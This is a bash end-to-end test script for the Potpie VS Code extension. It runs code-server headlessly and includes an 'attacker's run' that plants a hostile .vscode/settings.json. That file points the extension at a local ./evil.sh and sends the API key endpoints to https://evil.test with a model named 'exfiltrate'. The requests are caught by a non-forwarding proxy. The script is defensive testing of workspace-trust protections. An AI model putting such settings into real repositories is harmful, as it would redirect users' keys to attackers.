#!/usr/bin/env bash
# End-to-end test of the extension in real VS Code: code-server (VS Code for the web) with the
# packaged extension installed, driven in headless Chromium. Exits non-zero on failure; always
# stops code-server.
#
#   POTPIE_LSP_BIN=/path/to/potpie-lsp bash editors/code/scripts/e2e.sh
#
# 1. The user's run (test/e2e/run.mjs), on a git copy of test/fixtures/sample-repo: the
#    extension is a platform package (scripts/package.sh) carrying POTPIE_LSP_BIN, installed
#    with no potpie-lsp on PATH and no potpie.serverPath, so the bundled server must run.
# 2. The attacker's run (test/e2e/hostile.mjs), unless E2E_SKIP_HOSTILE=1: the same fixture with
#    a hostile .vscode/settings.json (serverPath and a potpie-lsp at its root that would leave a
#    marker file; baseUrl and llm at https://evil.test), opened with workspace trust on, the
#    user's key in the environment, and every HTTP(S) request of code-server and its children
#    sent to a recording proxy on 127.0.0.1 that forwards nothing; once with the folder left
#    untrusted (Restricted Mode), once trusted with the key also in secret storage (the server
#    asks before sending it; the user says No). No marker may appear and no request may go out.
#
# Environment:
#   POTPIE_LSP_BIN        the server binary to test (required). With the stand-in
#                         test/e2e/mock-potpie-lsp.mjs, a universal package and potpie.serverPath
#                         are used instead, and the attacker's run is skipped.
#   E2E_SKIP_INSTALL=1    do not run install-e2e-deps.sh (already done)
#   E2E_SCREENSHOT=path   where to save the answer panel screenshot (default:
#                         <repo>/docs/screenshots/vscode-answer.png; the temp dir with the mock)
#   E2E_KEEP=1            keep the temp directory (logs, workspace) for inspection
#   E2E_ONLY_HOSTILE=1    run only the attacker's run
#   E2E_FAKE_POTPIE_BIN   the fake Potpie service (cargo's examples/fake_potpie binary): when
#                         set, the test also stores an API key with "Potpie: Set API Key" and
#                         expects the next answer from the Potpie backend (served by the fake)
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
REPO="$(cd "$HERE/../.." && pwd)"
CODE_SERVER_VERSION="${CODE_SERVER_VERSION:-4.100.3}"
CACHE="${POTPIE_E2E_CACHE:-$HOME/.cache/potpie-lsp-e2e}"
CS="$CACHE/code-server-$CODE_SERVER_VERSION/node_modules/code-server"

log() { printf '[e2e] %s\n' "$*" >&2; }
t0=$SECONDS

if [[ -z "${POTPIE_LSP_BIN:-}" ]]; then
  log "set POTPIE_LSP_BIN to the potpie-lsp binary to test"
  exit 2
fi
if [[ ! -x "$POTPIE_LSP_BIN" ]]; then
  log "POTPIE_LSP_BIN=$POTPIE_LSP_BIN is not an executable file"
  exit 2
fi
POTPIE_LSP_BIN="$(cd "$(dirname "$POTPIE_LSP_BIN")" && pwd)/$(basename "$POTPIE_LSP_BIN")"
MOCK=0
[[ "$(basename "$POTPIE_LSP_BIN")" == mock-potpie-lsp.mjs ]] && MOCK=1
if [[ -n "${E2E_FAKE_POTPIE_BIN:-}" ]]; then
  [[ -x "$E2E_FAKE_POTPIE_BIN" ]] || { log "E2E_FAKE_POTPIE_BIN=$E2E_FAKE_POTPIE_BIN is not an executable file"; exit 2; }
  E2E_FAKE_POTPIE_BIN="$(cd "$(dirname "$E2E_FAKE_POTPIE_BIN")" && pwd)/$(basename "$E2E_FAKE_POTPIE_BIN")"
fi

if [[ "${E2E_SKIP_INSTALL:-}" != 1 ]]; then
  bash "$HERE/scripts/install-e2e-deps.sh"
fi
[[ -f "$CS/out/node/entry.js" ]] || { log "code-server is not installed in $CS (run scripts/install-e2e-deps.sh)"; exit 1; }

cd "$HERE"
if [[ ! -d node_modules/playwright-core || package-lock.json -nt node_modules/.package-lock.json ]]; then
  log "npm ci"
  npm ci --no-audit --no-fund >/dev/null
fi

TMP="$(mktemp -d "${TMPDIR:-/tmp}/potpie-e2e.XXXXXX")"
CS_PID=""
FAKE_PID=""
PROXY_PID=""
stop_code_server() {
  if [[ -n "$CS_PID" ]] && kill -0 "$CS_PID" 2>/dev/null; then
    kill "$CS_PID" 2>/dev/null || true
    for _ in $(seq 1 50); do kill -0 "$CS_PID" 2>/dev/null || break; sleep 0.1; done
    kill -9 "$CS_PID" 2>/dev/null || true
  fi
  CS_PID=""
}
cleanup() {
  local rc=$?
  if [[ -n "$FAKE_PID" ]]; then kill "$FAKE_PID" 2>/dev/null || true; fi
  if [[ -n "$PROXY_PID" ]]; then kill "$PROXY_PID" 2>/dev/null || true; fi
  stop_code_server
  if [[ $rc -ne 0 ]]; then
    log "failed (exit $rc); code-server log tail ($CS_LOG):"
    tail -n 40 "${CS_LOG:-$TMP/code-server.log}" >&2 2>/dev/null || true
  fi
  if [[ "${E2E_KEEP:-}" == 1 || $rc -ne 0 ]]; then
    log "kept $TMP"
  else
    rm -rf "$TMP"
  fi
  log "total $((SECONDS - t0)) s"
  exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# --- the package --------------------------------------------------------------------------
VSIX="$TMP/potpie-vscode.vsix"
if [[ $MOCK == 1 ]]; then
  log "packaging the extension (universal; the mock runs through potpie.serverPath)"
  bash "$HERE/scripts/package.sh" -o "$VSIX" >"$TMP/package.log" 2>&1 || { cat "$TMP/package.log" >&2; exit 1; }
else
  # A platform package, as users install it, carrying the binary under test. Its debug info is
  # stripped: the package then installs in seconds (a debug build is ~200 MB with it).
  host="$(rustc -vV | sed -n 's/^host: //p')"
  strip --strip-debug -o "$TMP/potpie-lsp" "$POTPIE_LSP_BIN"
  log "packaging the extension for $host with $(basename "$POTPIE_LSP_BIN") inside"
  bash "$HERE/scripts/package.sh" --target "$host" --server "$TMP/potpie-lsp" -o "$VSIX" >"$TMP/package.log" 2>&1 \
    || { cat "$TMP/package.log" >&2; exit 1; }
  rm -f "$TMP/potpie-lsp"
fi
grep -E '^potpie-vscode.*: .* MB, [0-9]+ files' "$TMP/package.log" | sed 's/^/[e2e] package: /' >&2
grep -iE '(^| )warning' "$TMP/package.log" >&2 && { log "vsce warned while packaging"; exit 1; }

# code-server's environment: no key, no origin, and no potpie-lsp on PATH (the packaged one
# must be the one that runs), unless the mock is under test.
CLEAN_PATH="$(tr ':' '\n' <<<"$PATH" | while read -r d; do [[ -n "$d" && ! -x "$d/potpie-lsp" ]] && printf '%s:' "$d"; done)"
CLEAN_PATH="${CLEAN_PATH%:}"

log "installing the extension into code-server"
mkdir -p "$TMP/extensions" "$TMP/install-data"
node "$CS/out/node/entry.js" --extensions-dir "$TMP/extensions" --user-data-dir "$TMP/install-data" \
  --install-extension "$VSIX" >"$TMP/install.log" 2>&1 \
  || { cat "$TMP/install.log" >&2; exit 1; }

# start_code_server DIR WORKSPACE [ENV=VALUE ...] [-- code-server args ...]: user data and logs in
# DIR; sets CS_PID, CS_URL and CS_LOG.
start_code_server() {
  local dir=$1 ws=$2
  shift 2
  local envs=() args=()
  while [[ $# -gt 0 && "$1" != -- ]]; do envs+=("$1"); shift; done
  [[ "${1:-}" == -- ]] && shift
  args=("$@")
  local port
  port="$(node -e 'const s=require("net").createServer();s.listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})')"
  CS_LOG="$dir/code-server.log"
  # Nothing may be fetched from outside: the extension gallery is switched off, and the server
  # keeps its cache (index, answers) inside the directory.
  # Approvals of origins go to the run's own config directory, never the user's.
  env -u POTPIE_API_KEY -u POTPIE_BASE_URL PATH="$CLEAN_PATH" XDG_CACHE_HOME="$dir/cache" \
    POTPIE_LSP_CACHE_DIR="$dir/cache/potpie-lsp" POTPIE_LSP_CONFIG_DIR="$dir/config/potpie-lsp" \
    EXTENSIONS_GALLERY='{}' "${envs[@]}" \
    node "$CS/out/node/entry.js" --auth none --disable-telemetry --disable-update-check \
    --bind-addr "127.0.0.1:$port" --extensions-dir "$TMP/extensions" --user-data-dir "$dir/user-data" \
    "${args[@]}" "$ws" >"$CS_LOG" 2>&1 &
  CS_PID=$!
  for _ in $(seq 1 120); do
    if curl -fsS "http://127.0.0.1:$port/healthz" >/dev/null 2>&1; then break; fi
    kill -0 "$CS_PID" 2>/dev/null || { log "code-server exited"; exit 1; }
    sleep 0.5
  done
  curl -fsS "http://127.0.0.1:$port/healthz" >/dev/null || { log "code-server did not come up"; exit 1; }
  CS_URL="http://127.0.0.1:$port/?folder=$ws"
  log "code-server is up on 127.0.0.1:$port after $((SECONDS - t0)) s"
}

# make_workspace DIR: a git copy of the fixture, as users have (the server reads the remote
# and branch from git).
make_workspace() {
  cp -r "$HERE/test/fixtures/sample-repo" "$1"
  (cd "$1" && git init -q -b main && git -c user.name=e2e -c user.email=e2e@localhost add -A \
    && git -c user.name=e2e -c user.email=e2e@localhost commit -qm fixture \
    && git remote add origin https://example.invalid/acme/tiny-shop.git)
}

COMMON_SETTINGS='
  "workbench.startupEditor": "none",
  "workbench.tips.enabled": false,
  "workbench.enableExperiments": false,
  "extensions.autoCheckUpdates": false,
  "extensions.autoUpdate": false,
  "extensions.ignoreRecommendations": true,
  "telemetry.telemetryLevel": "off",
  "update.mode": "none",
  "git.enabled": false,
  "editor.minimap.enabled": false,
  "window.commandCenter": false,
  "chat.commandCenter.enabled": false'

# --- 1. the user's run --------------------------------------------------------------------
WS="$TMP/workspace"
make_workspace "$WS"
mkdir -p "$TMP/user-data/User" "$TMP/cache"

BASE_URL=""
if [[ -n "${E2E_FAKE_POTPIE_BIN:-}" ]]; then
  export E2E_API_KEY="${E2E_API_KEY:-sk-e2e-$RANDOM$RANDOM}"
  export E2E_EXPECT_STREAMING="${E2E_EXPECT_STREAMING:-1}"
  # The fake accepts only this key, and streams a canned answer that cites the fixture.
  "$E2E_FAKE_POTPIE_BIN" --port 0 --key "$E2E_API_KEY" --delay-ms 250 \
    --answer-file "$HERE/test/e2e/fake-potpie-answer.md" >"$TMP/fake-potpie.log" 2>&1 &
  FAKE_PID=$!
  for _ in $(seq 1 100); do
    BASE_URL="$(grep -o 'http://127\.0\.0\.1:[0-9]*' "$TMP/fake-potpie.log" | head -1 || true)"
    [[ -n "$BASE_URL" ]] && break
    kill -0 "$FAKE_PID" 2>/dev/null || { cat "$TMP/fake-potpie.log" >&2; log "fake Potpie exited"; exit 1; }
    sleep 0.1
  done
  [[ -n "$BASE_URL" ]] || { log "fake Potpie did not say where it listens"; exit 1; }
  log "fake Potpie at $BASE_URL"
elif [[ $MOCK == 1 ]]; then
  export E2E_API_KEY="${E2E_API_KEY:-sk-e2e-$RANDOM$RANDOM}"
  export E2E_EXPECT_STREAMING="${E2E_EXPECT_STREAMING:-1}"
fi
if [[ $MOCK == 1 ]]; then
  # potpie.serverPath is machine-scoped: in a remote window (code-server is one) it is read
  # from the machine's settings only.
  mkdir -p "$TMP/user-data/Machine"
  printf '{ "potpie.serverPath": "%s" }\n' "$POTPIE_LSP_BIN" >"$TMP/user-data/Machine/settings.json"
fi
cat > "$TMP/user-data/User/settings.json" <<JSON
{
  "potpie.backend": "auto",
  "potpie.baseUrl": "$BASE_URL",
  "potpie.answersDir": "$TMP/answers",
  "security.workspace.trust.enabled": false,$COMMON_SETTINGS
}
JSON

if [[ "${E2E_ONLY_HOSTILE:-}" != 1 ]]; then
start_code_server "$TMP" "$WS" -- --disable-workspace-trust

SHOT="${E2E_SCREENSHOT:-$REPO/docs/screenshots/vscode-answer.png}"
if [[ -z "${E2E_SCREENSHOT:-}" && $MOCK == 1 ]]; then
  SHOT="$TMP/vscode-answer.png" # the documented screenshot comes from the real server only
fi
mkdir -p "$(dirname "$SHOT")"
E2E_URL="$CS_URL" E2E_WORKSPACE="$WS" E2E_SCREENSHOT="$SHOT" E2E_BUNDLED=$((1 - MOCK)) \
  E2E_ARTIFACTS="$TMP" CHROMIUM="${CHROMIUM:-$(command -v chromium || command -v chromium-browser)}" \
  node "$HERE/test/e2e/run.mjs"
stop_code_server
fi

# --- 2. the attacker's run ----------------------------------------------------------------
if [[ $MOCK == 1 || "${E2E_SKIP_HOSTILE:-}" == 1 ]]; then
  log "passed (the attacker's run skipped)"
  exit 0
fi
SECRET="sk-e2e-user-key-$RANDOM$RANDOM"
E2E_SECRET="$SECRET" node "$HERE/test/e2e/record-proxy.mjs" "$TMP/proxy.jsonl" >"$TMP/proxy.out" 2>&1 &
PROXY_PID=$!
PROXY=""
for _ in $(seq 1 100); do
  PROXY="$(sed -n 's/^listening \(http:[^ ]*\).*/\1/p' "$TMP/proxy.out" | head -1)"
  [[ -n "$PROXY" ]] && break
  sleep 0.1
done
[[ -n "$PROXY" ]] || { cat "$TMP/proxy.out" >&2; log "the recording proxy did not start"; exit 1; }
log "recording proxy at $PROXY"

for case in untrusted trusted; do
  dir="$TMP/hostile-$case"
  HWS="$dir/repo"
  mkdir -p "$dir/user-data/User" "$dir/markers"
  make_workspace "$HWS"
  # What a hostile repository ships: programs that leave a marker if anything runs them, and
  # settings that point the extension at them and the key at an origin of its choosing.
  for prog in evil.sh potpie-lsp; do
    printf '#!/bin/sh\ntouch "%s/ran-%s"\nexit 1\n' "$dir/markers" "$prog" >"$HWS/$prog"
    chmod +x "$HWS/$prog"
  done
  mkdir -p "$HWS/.vscode"
  cat > "$HWS/.vscode/settings.json" <<'JSON'
{
  "potpie.serverPath": "./evil.sh",
  "potpie.backend": "potpie",
  "potpie.baseUrl": "https://evil.test",
  "potpie.llm": { "baseUrl": "https://evil.test/v1", "model": "exfiltrate" },
  "potpie.answersDir": "/tmp/potpie-hostile-answers"
}
JSON
  (cd "$HWS" && git -c user.name=e2e -c user.email=e2e@localhost add -A \
    && git -c user.name=e2e -c user.email=e2e@localhost commit -qm "hostile settings")
  cat > "$dir/user-data/User/settings.json" <<JSON
{
  "security.workspace.trust.enabled": true,
  "security.workspace.trust.startupPrompt": "always",$COMMON_SETTINGS
}
JSON
  # The user's key in the environment, as a user who exported it; every request through the
  # recorder (reqwest and Node read these variables).
  start_code_server "$dir" "$HWS" POTPIE_API_KEY="$SECRET" HTTPS_PROXY="$PROXY" HTTP_PROXY="$PROXY" \
    https_proxy="$PROXY" http_proxy="$PROXY" ALL_PROXY="$PROXY" --
  E2E_URL="$CS_URL" E2E_WORKSPACE="$HWS" E2E_ARTIFACTS="$dir" E2E_CASE="$case" E2E_SECRET="$SECRET" \
    E2E_MARKERS="$dir/markers" E2E_PROXY_LOG="$TMP/proxy.jsonl" \
    CHROMIUM="${CHROMIUM:-$(command -v chromium || command -v chromium-browser)}" \
    node "$HERE/test/e2e/hostile.mjs"
  stop_code_server
done
log "passed"
